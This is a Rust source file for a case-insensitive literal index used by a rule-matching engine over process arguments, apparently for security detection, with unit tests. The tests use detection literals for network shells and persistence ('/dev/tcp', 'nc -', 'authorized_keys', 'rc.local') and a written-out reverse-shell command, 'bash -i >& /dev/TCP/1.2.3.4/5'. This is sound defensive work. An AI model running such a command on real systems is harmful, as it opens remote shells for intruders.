//! Looks up which literals a text has, for all rules at once.
//!
//! Those that are whole texts, beginnings or ends are known by their hashes only. A collision costs a look at a condition and never a match, since every
//! candidate's condition is evaluated; so hashing forgets the case of letters as well.

use super::inside::Inside;
use super::require::{Literal, Place};

/// A set of entries of the index, a bit each.
pub(super) type Bits = Vec<u64>;

/// The literals of one field.
#[derive(Clone, Debug, Default)]
pub(super) struct Literals {
    wholes: Table,
    ends: Table,
    fronts: Cuts,
    backs: Cuts,
    inside: Option<Box<Inside>>,
}

/// Beginnings and ends are cut to one of these lengths, so that a text is hashed a few times and not once a literal.
const CUTS: [usize; 4] = [16, 8, 4, 2];

/// The lengths of beginnings or ends that are looked up.
#[derive(Clone, Debug, Default)]
struct Cuts {
    lengths: Vec<usize>,
    /// A bit for each pair of bytes at the very end, by [`pair_bit`]: most texts have another.
    pairs: [u64; 4],
}

impl Literals {
    /// `literals` of the field, each with the entry that requires it.
    pub(super) fn new(literals: &[(usize, &Literal)]) -> Self {
        let mut this = Self::default();
        let mut wholes = Vec::new();
        let mut ends = Vec::new();
        let mut inside = Vec::new();
        for (entry, literal) in literals {
            let text = literal.text.as_bytes();
            let cut = CUTS.into_iter().find(|cut| *cut <= text.len()).unwrap_or(text.len());
            match literal.place {
                Place::Whole => wholes.push((hash(text, Place::Whole), *entry)),
                Place::Front => {
                    this.fronts.add(cut, text.first_chunk());
                    ends.push((hash(text.get(..cut).unwrap_or(text), Place::Front), *entry));
                }
                Place::Back => {
                    this.backs.add(cut, text.last_chunk());
                    ends.push((hash(text.get(text.len() - cut..).unwrap_or(text), Place::Back), *entry));
                }
                Place::Inside => inside.push((*entry, text)),
            }
        }
        this.wholes = Table::new(wholes);
        this.ends = Table::new(ends);
        this.inside = Inside::new(&inside).map(Box::new);
        this
    }

    /// Sets the bits of the entries of which `text` has a literal.
    #[inline]
    pub(super) fn find(&self, text: &str, found: &mut [u64]) {
        let text = text.as_bytes();
        if !self.wholes.is_empty() {
            self.wholes.find(hash(text, Place::Whole), found);
        }
        if self.fronts.may_have(text.first_chunk()) {
            for length in &self.fronts.lengths {
                if let Some(front) = text.get(..*length) {
                    self.ends.find(hash(front, Place::Front), found);
                }
            }
        }
        if self.backs.may_have(text.last_chunk()) {
            for length in &self.backs.lengths {
                if let Some(back) = text.len().checked_sub(*length).and_then(|start| text.get(start..)) {
                    self.ends.find(hash(back, Place::Back), found);
                }
            }
        }
        if let Some(inside) = &self.inside {
            inside.find(text, found);
        }
    }
}

impl Cuts {
    /// Literals have two bytes and more.
    fn add(&mut self, length: usize, pair: Option<&[u8; 2]>) {
        if let Err(place) = self.lengths.binary_search(&length) {
            self.lengths.insert(place, length);
        }
        let (word, bit) = pair_bit(pair.copied().unwrap_or_default());
        if let Some(word) = self.pairs.get_mut(word) {
            *word |= bit;
        }
    }

    #[inline]
    fn may_have(&self, pair: Option<&[u8; 2]>) -> bool {
        pair.is_some_and(|pair| {
            let (word, bit) = pair_bit(*pair);
            self.pairs.get(word).is_some_and(|word| word & bit != 0)
        })
    }
}

/// Where the bit of a pair of bytes is, letters in whatever case.
#[inline]
fn pair_bit(pair: [u8; 2]) -> (usize, u64) {
    let hash = (u32::from(u16::from_le_bytes(pair)) | 0x2020).wrapping_mul(0x9e37_79b1) >> 24;
    ((hash >> 6) as usize, 1 << (hash & 63))
}

/// Hashes with the entries they stand for.
#[derive(Clone, Debug, Default)]
struct Table {
    /// A bit for each hash, by some of its own bits: most lookups end here.
    filter: Vec<u64>,
    /// Hashes in places that follow from them, or in the next free ones; 0 is free.
    hashes: Vec<u64>,
    /// For each place where its postings begin and end.
    ranges: Vec<(u32, u32)>,
    postings: Vec<Posting>,
}

/// A word of a set of entries, with the bits to set there.
pub(super) type Posting = (u32, u64);

/// What to set for `entries`, which ascend.
pub(super) fn postings(entries: impl Iterator<Item = usize>) -> Vec<Posting> {
    let mut postings: Vec<Posting> = Vec::new();
    for entry in entries {
        let (word, bit) = (index(entry / 64), 1 << (entry % 64));
        match postings.last_mut() {
            Some(last) if last.0 == word => last.1 |= bit,
            _ => postings.push((word, bit)),
        }
    }
    postings
}

impl Table {
    fn new(mut pairs: Vec<(u64, usize)>) -> Self {
        if pairs.is_empty() {
            return Self::default();
        }
        pairs.sort_unstable();
        pairs.dedup();
        let distinct = pairs.chunk_by(|a, b| a.0 == b.0).count();
        let places = (distinct * 2).next_power_of_two();
        let mut table = Self {
            filter: vec![0; (distinct / 4).next_power_of_two()],
            hashes: vec![0; places],
            ranges: vec![(0, 0); places],
            postings: Vec::new(),
        };
        for group in pairs.chunk_by(|a, b| a.0 == b.0) {
            let Some(&(hash, _)) = group.first() else { continue };
            let start = index(table.postings.len());
            table.postings.extend(postings(group.iter().map(|(_, entry)| *entry)));
            table.put(hash, (start, index(table.postings.len())));
        }
        table
    }

    fn is_empty(&self) -> bool {
        self.hashes.is_empty()
    }

    fn put(&mut self, hash: u64, range: (u32, u32)) {
        let (word, bit) = self.filter_place(hash);
        if let Some(word) = self.filter.get_mut(word) {
            *word |= bit;
        }
        let mut place = self.place(hash);
        while self.hashes.get(place).is_some_and(|taken| *taken != 0) {
            place = (place + 1) & (self.hashes.len() - 1);
        }
        if let (Some(free), Some(space)) = (self.hashes.get_mut(place), self.ranges.get_mut(place)) {
            *free = hash;
            *space = range;
        }
    }

    #[inline]
    fn find(&self, hash: u64, found: &mut [u64]) {
        let (word, bit) = self.filter_place(hash);
        if self.filter.get(word).is_some_and(|word| word & bit != 0) {
            self.find_in_table(hash, found);
        }
    }

    fn find_in_table(&self, hash: u64, found: &mut [u64]) {
        let mut place = self.place(hash);
        // There are twice as many places as hashes: a free one comes.
        while let Some(&known) = self.hashes.get(place) {
            if known == hash {
                let (start, end) = self.ranges.get(place).copied().unwrap_or_default();
                for (word, bits) in self.postings.get(start as usize..end as usize).unwrap_or_default() {
                    if let Some(word) = found.get_mut(*word as usize) {
                        *word |= bits;
                    }
                }
                return;
            }
            if known == 0 {
                return;
            }
            place = (place + 1) & (self.hashes.len() - 1);
        }
    }

    #[expect(clippy::cast_possible_truncation, reason = "some bits of a hash are as good as others")]
    fn place(&self, hash: u64) -> usize {
        hash as usize & self.hashes.len().wrapping_sub(1)
    }

    fn filter_place(&self, hash: u64) -> (usize, u64) {
        let bits = hash >> 32;
        ((bits >> 6) as usize & self.filter.len().wrapping_sub(1), 1 << (bits & 63))
    }
}

fn index(number: usize) -> u32 {
    u32::try_from(number).unwrap_or(u32::MAX)
}

const FOLD: u64 = 0x2020_2020_2020_2020;
const ODD: u64 = 0x9e37_79b9_7f4a_7c15;

/// The hash of a text, letters in whatever case; never 0. Of a long text only the length and both ends count.
#[inline]
fn hash(text: &[u8], place: Place) -> u64 {
    let (front, back) = if let (Some(front), Some(back)) = (text.first_chunk::<8>(), text.last_chunk::<8>()) {
        (u64::from_le_bytes(*front), u64::from_le_bytes(*back))
    } else if let (Some(front), Some(back)) = (text.first_chunk::<4>(), text.last_chunk::<4>()) {
        (u64::from(u32::from_le_bytes(*front)), u64::from(u32::from_le_bytes(*back)))
    } else {
        (text.iter().fold(0, |all, byte| all << 8 | u64::from(*byte)), 0)
    };
    let seed = (text.len() as u64) << 8 | place as u64;
    mix(mix((front | FOLD) ^ seed.rotate_left(40)) ^ (back | FOLD) ^ seed) | 1
}

#[inline]
fn mix(state: u64) -> u64 {
    let product = state.wrapping_mul(ODD);
    product ^ product >> 29
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::FieldId;

    fn found(literals: &[(Place, &str)], text: &str) -> Vec<usize> {
        let literals: Vec<Literal> = literals
            .iter()
            .map(|(place, text)| Literal {
                field: FieldId::ProcessArgs,
                place: *place,
                text: (*text).to_owned(),
            })
            .collect();
        let with_entries: Vec<(usize, &Literal)> = literals.iter().enumerate().collect();
        let mut bits = vec![0; literals.len().div_ceil(64)];
        Literals::new(&with_entries).find(text, &mut bits);
        (0..literals.len()).filter(|entry| bits[entry / 64] & 1 << (entry % 64) != 0).collect()
    }

    #[test]
    fn literals_are_found_where_they_stand_whatever_their_case() {
        let literals = [
            (Place::Whole, "apt"),
            (Place::Whole, ""),
            (Place::Whole, "/usr/bin/python3"),
            (Place::Front, "/usr/"),
            (Place::Front, "py"),
            (Place::Back, "python3"),
            (Place::Back, "/usr/bin/python3"),
            (Place::Inside, "/bin/p"),
            (Place::Inside, "/dev/tcp"),
        ];
        assert_eq!(found(&literals, "apt"), [0]);
        assert_eq!(found(&literals, "APT"), [0]);
        assert_eq!(found(&literals, ""), [1]);
        assert_eq!(found(&literals, "/usr/bin/Python3"), [2, 3, 5, 6, 7]);
        assert_eq!(found(&literals, "Python3"), [4, 5]);
        assert_eq!(found(&literals, "bash -i >& /dev/TCP/1.2.3.4/5"), [8]);
        assert_eq!(found(&literals, "ap"), [0_usize; 0]);
    }

    #[test]
    fn case_is_forgotten_at_every_place_of_a_text_of_any_length() {
        for length in 1..200 {
            let text = "a".repeat(length);
            for place in 0..length {
                let mut other = text.clone();
                other.replace_range(place..=place, "A");
                assert_eq!(found(&[(Place::Whole, &text)], &other), [0], "{place} of {length}");
            }
        }
    }

    #[test]
    fn a_literal_inside_is_found_at_every_place() {
        let long: [(Place, &str); 2] = [(Place::Inside, "authorized_keys"), (Place::Inside, "rc.local")];
        let with_short = [long[0], long[1], (Place::Inside, "nc -")];
        for spaces in 0..40 {
            let space = " ".repeat(spaces);
            for literals in [&long[..], &with_short[..]] {
                assert_eq!(found(literals, &format!("{space}AUTHORIZED_keys")), [0]);
                assert_eq!(found(literals, &format!("{space}rc.locale")), [1]);
                assert_eq!(found(literals, &format!("{space}rc.loca")), [0_usize; 0]);
            }
            assert_eq!(found(&with_short, &format!("{space}nc -{space}")), [2]);
        }
    }

    #[test]
    fn thousands_of_literals_are_each_found_by_their_own_entry() {
        let names: Vec<String> = (0..5000).map(|number| format!("name-{number}")).collect();
        let literals: Vec<(Place, &str)> = names.iter().map(|name| (Place::Whole, name.as_str())).collect();
        for (entry, name) in names.iter().enumerate().step_by(397) {
            assert_eq!(found(&literals, name), [entry]);
        }
        assert!(found(&literals, "name-5000").is_empty());
    }
}
